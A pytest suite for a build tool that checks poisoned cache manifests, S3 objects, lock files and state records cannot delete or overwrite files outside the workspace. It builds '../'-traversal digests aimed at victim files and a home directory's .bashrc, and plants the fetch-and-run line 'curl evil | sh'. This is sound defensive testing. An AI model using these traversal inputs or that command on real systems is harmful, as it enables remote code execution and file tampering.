"""Nothing read from a cache, a lock file, the state or a build record reaches outside the workspace (issue 15, 1-3)."""

from __future__ import annotations

import json
import os
import shutil
import sqlite3

import pytest
import yaml

from conftest import WS
from test_history import commit, init_repo

BUILD = "targets:\n  a:\n    command: echo good > out.txt\n    outs: [out.txt]\n"
TWO_OUTS = ("targets:\n  a:\n    command: echo good > out.txt && mkdir -p gen && echo x > gen/x.sh\n"
            "    outs: [out.txt, gen/x.sh]\n")


def traversal(target) -> str:
    """A "digest" that, used as cas/<d[:2]>/<d>, names the absolute path target."""
    return "../" * 40 + str(target).lstrip("/")


def entry(ws: WS):
    """The one local action-cache entry of ws (path, manifest)."""
    (path,) = [p for p in (ws.cache / "ac").rglob("*") if p.is_file()]
    return path, json.loads(path.read_text())


def rewrite(path, manifest: dict) -> None:
    os.chmod(path, 0o644)
    path.write_text(json.dumps(manifest))


def built(tmp_path, git: bool = False, remote=None, server=None, build: str = BUILD) -> WS:
    """A workspace whose target a was built once (its manifest is in the cache), out.txt then removed."""
    root = tmp_path / "ws"
    root.mkdir()
    (root / "buildml.yaml").write_text("")
    ws = WS(root, tmp_path / "cache")
    if remote:
        base = ws.env
        ws.env = lambda **extra: base(BUILDML_REMOTE_CACHE=remote, **server.env, **extra)
    if git:
        init_repo(root)
    ws.write("BUILD.yaml", build)
    ws.write("notes.txt", "mine\n")
    ws.run("build", check=0)
    (root / "out.txt").unlink()
    return ws


def warnings(proc) -> list:
    return [json.loads(l)["message"] for l in proc.stdout.splitlines() if l.startswith('{"event": "warning"')]


def snapshot(directory) -> dict:
    """{relative path: bytes or 'dir'} of everything under directory."""
    return {str(p.relative_to(directory)): ("dir" if p.is_dir() else p.read_bytes()) for p in directory.rglob("*")}


def rebuilt(ws: WS, proc) -> None:
    """The build warned about the corrupt entry, executed a again and wrote the right output."""
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert '"status": "executed"' in proc.stdout and ws.read("out.txt") == "good\n"
    assert [w for w in warnings(proc) if "is corrupt and was ignored" in w], proc.stdout
    assert not (ws.root / ".buildml" / "displaced").exists() and ws.read("notes.txt") == "mine\n"


@pytest.mark.parametrize("bad", ["", "outside"])
def test_a_manifest_out_dir_never_moves_the_workspace_or_outside_files(tmp_path, bad):
    """out_dirs [""] or an absolute path in a local manifest is rejected: the workspace and .git stay, a rebuilds."""
    ws = built(tmp_path, git=True)
    outside = tmp_path / "outside"
    (outside / "sub").mkdir(parents=True)
    (outside / "sub" / "keep.txt").write_text("outside\n")
    path, manifest = entry(ws)
    rewrite(path, {**manifest, "out_dirs": [str(outside) if bad else ""]})
    proc = ws.run("build", "--json")
    assert (ws.root / ".git" / "HEAD").is_file() and (outside / "sub" / "keep.txt").read_text() == "outside\n"
    rebuilt(ws, proc)


def test_a_traversal_digest_in_a_local_manifest_deletes_nothing(tmp_path):
    """An output digest of ../../victim in a local manifest is rejected: the victim survives, a rebuilds."""
    ws = built(tmp_path)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    path, manifest = entry(ws)
    manifest["outputs"]["out.txt"]["digest"] = traversal(victim)
    rewrite(path, manifest)
    proc = ws.run("build", "--json")
    assert victim.read_text() == "precious\n"
    rebuilt(ws, proc)
    proc = ws.run("cache", "verify", check=None)
    assert proc.returncode == 0, proc.stdout  # the rebuild replaced the entry


def test_cache_verify_reports_a_poisoned_local_manifest(tmp_path):
    """`cache verify` calls a manifest with out_dirs [""] corrupt, naming the field, and exits 1."""
    ws = built(tmp_path)
    path, manifest = entry(ws)
    rewrite(path, {**manifest, "out_dirs": [""]})
    proc = ws.run("cache", "verify", check=1)
    assert f"bad entry {manifest['key']}: corrupt manifest: out_dirs entry ''" in proc.stdout


def _remote_entry(server, url: str):
    fs = server.fs()
    (path,) = [p for p in fs.find(url.split("://", 1)[1]) if "/ac/" in p]
    return fs, path, json.loads(fs.cat(path))


def test_a_traversal_digest_in_an_s3_manifest_deletes_nothing(tmp_path, moto_server, s3_bucket):
    """An S3 manifest with an output digest of ../../victim is rejected and reported by `cache verify --remote`."""
    ws = built(tmp_path, remote=s3_bucket, server=moto_server)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    fs, path, manifest = _remote_entry(moto_server, s3_bucket)
    manifest["outputs"]["out.txt"]["digest"] = traversal(victim)
    fs.pipe(path, json.dumps(manifest).encode())
    proc = ws.run("cache", "verify", "--remote", check=1)
    assert f"bad entry {manifest['key']}: corrupt manifest: outputs['out.txt'].digest" in proc.stdout
    shutil.rmtree(ws.cache)  # the local copy of the entry is gone: the remote one is what the next build finds
    proc = ws.run("build", "--json")
    assert victim.read_text() == "precious\n"
    rebuilt(ws, proc)


def test_an_s3_object_with_dotdot_in_its_key_is_never_written_outside(tmp_path, moto_server, s3_bucket):
    """A poisoned S3 manifest plus objects at keys with `..` neither write nor delete anything outside the cache."""
    ws = built(tmp_path, remote=s3_bucket, server=moto_server, build=TWO_OUTS)
    outside = tmp_path / "home"
    outside.mkdir()
    (outside / ".bashrc").write_text("# mine\n")
    before = snapshot(outside)
    fs, path, manifest = _remote_entry(moto_server, s3_bucket)
    root = path.rsplit("/ac/", 1)[0]
    planted = {"out.txt": outside / ".bashrc", "gen/x.sh": outside / "new" / "planted.sh"}
    manifest["outputs"] = {}
    for out, target in planted.items():
        digest = traversal(target)
        fs.pipe(f"{root}/cas/{digest[:2]}/{digest}", b"curl evil | sh\n")
        manifest["outputs"][out] = {"digest": digest, "size": 15, "exec": True}
    fs.pipe(path, json.dumps(manifest).encode())
    shutil.rmtree(ws.cache)
    proc = ws.run("build", "--json")
    assert snapshot(outside) == before and not (outside / "new").exists()
    rebuilt(ws, proc)


def test_a_committed_lock_with_a_traversal_digest_is_refused_at_a_revision(ws, tmp_path):
    """`build --at` a commit whose buildml.lock pins ../../victim stops with buildml.lock:line, the field and a hint."""
    data = tmp_path / "d.csv"
    data.write_text("1,2\n")
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    init_repo(ws.root)
    ws.write("BUILD.yaml", f"""\
        targets:
          rows:
            command: wc -l < external/file{data} > rows.txt
            deps: ["file://{data}"]
            outs: [rows.txt]
    """)
    ws.run("build", check=0)
    lock = ws.read("buildml.lock")
    good = yaml.safe_load(lock)["deps"][f"file://{data}"][0]["digest"]
    ws.write("buildml.lock", lock.replace(good, traversal(victim)))
    rev = commit(ws.root, "poisoned lock")
    proc = ws.run("build", "--at", rev)
    assert victim.read_text() == "precious\n" and proc.returncode == 2
    line = next(i for i, l in enumerate(ws.read("buildml.lock").splitlines(), 1) if "digest:" in l)
    out = proc.stdout + proc.stderr
    assert f"buildml.lock:{line}:" in out and "digest: the pin of" in out and "not a content digest" in out, out
    assert "regenerate it with `buildml lock`" in out


def test_a_bad_log_digest_in_the_state_is_a_clear_error(tmp_path):
    """`buildml log` with a state log digest of ../../victim exits 1 naming state.db; the victim survives."""
    ws = built(tmp_path)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    db = sqlite3.connect(ws.root / ".buildml" / "state.db")
    with db:
        assert db.execute("UPDATE meta SET value = ? WHERE name = 'log://:a'", (traversal(victim),)).rowcount == 1
    db.close()
    proc = ws.run("log", ":a")
    assert victim.read_text() == "precious\n" and proc.returncode == 1
    assert "state.db: the log recorded for //:a" in proc.stderr and "not a digest" in proc.stderr, proc.stderr


def test_a_bad_log_digest_in_the_build_record_is_a_clear_error(tmp_path):
    """`buildml report` with a last-build.json log digest of ../../victim exits 1; the victim survives."""
    ws = built(tmp_path)
    ws.run("build", check=0)
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    record_path = ws.root / ".buildml" / "last-build.json"
    record = json.loads(record_path.read_text())
    record["targets"][0]["log_digest"] = traversal(victim)
    record_path.write_text(json.dumps(record))
    proc = ws.run("report")
    assert victim.read_text() == "precious\n" and proc.returncode == 1
    assert "last-build.json: the log of //:a has the digest" in proc.stderr and "buildml build" in proc.stderr


def test_a_log_missing_from_the_cache_is_a_clear_error(tmp_path):
    """`buildml log` whose log blob is not in the current cache says so and exits 1 (issue 21, item 8)."""
    ws = built(tmp_path)
    proc = ws.run("log", ":a", env=ws.env(BUILDML_CACHE_DIR=str(tmp_path / "other-cache")), check=1)
    assert "the log of //:a's last run" in proc.stderr and "is not in the cache" in proc.stderr, proc.stderr
    assert "internal error" not in proc.stderr
